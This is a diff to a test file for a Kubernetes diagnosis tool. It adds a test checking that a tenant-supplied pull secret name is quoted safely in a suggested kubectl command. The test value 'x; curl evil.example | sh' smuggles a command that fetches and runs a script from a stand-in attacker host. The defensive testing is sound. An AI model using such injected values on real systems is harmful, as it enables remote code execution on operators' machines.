@@ -6,7 +6,7 @@ import { pullSecretMissing } from "#diagnosis/causes/pull-secret-missing.ts";
 import { registryUnresolvable } from "#diagnosis/causes/registry-unresolvable.ts";
 import { createView } from "#diagnosis/view.ts";
 import type { Evidence } from "#evidence/evidence.ts";
-import { evidence, objects, podsOf, warning } from "#test/evidence-sketch.ts";
+import { evidence, manualSteps, objects, podsOf, warning } from "#test/evidence-sketch.ts";
 
 const web = (image: string, more = ""): Deployment =>
   objects(`
@@ -99,4 +99,11 @@ describe("a registry that cannot be resolved", () => {
       ),
     ).toEqual([]);
   });
+});
+
+test("the name of a pull secret is one word of the command to paste, whatever a tenant wrote there", () => {
+  const given = pulling("registry.test/team/web:1", denied, ', imagePullSecrets: [{ name: "x; curl evil.example | sh" }]');
+  expect(manualSteps(pullSecretMissing, given)).toEqual([
+    "create the pull secret: kubectl -n shop create secret docker-registry 'x; curl evil.example | sh' --docker-server=REGISTRY --docker-username=USER --docker-password=PASSWORD",
+  ]);
 });
